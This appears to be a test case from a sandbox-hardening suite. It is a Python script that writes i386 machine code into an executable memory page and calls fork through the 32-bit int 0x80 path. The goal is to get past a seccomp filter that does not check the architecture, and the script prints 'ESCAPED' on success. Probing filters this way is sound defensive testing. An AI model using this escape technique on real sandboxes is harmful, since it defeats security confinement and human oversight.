#: title: 32-bit int 0x80 fork by machine code
#: breaks: the filter must check seccomp_data.arch; W^X already stops the page
#: severity: critical
#: arch: x86_64
#: status: ok | crashed
#: prints: PermissionError
#: control: ESCAPED
import ctypes, os
L = ctypes.CDLL(None, use_errno=True)
S = L.syscall
S.restype = ctypes.c_long

code = bytes([0xB8, 2, 0, 0, 0, 0xCD, 0x80, 0xC3])          # mov eax,2 (i386 fork); int 0x80; ret
import mmap
try:
    m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    m.write(code)
    f = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(m)))
    r = f(); print("ESCAPED" if r >= 0 else f"refused {r}", flush=True)
    if r == 0: os._exit(0)
except (OSError, ValueError, MemoryError) as e: print(type(e).__name__)
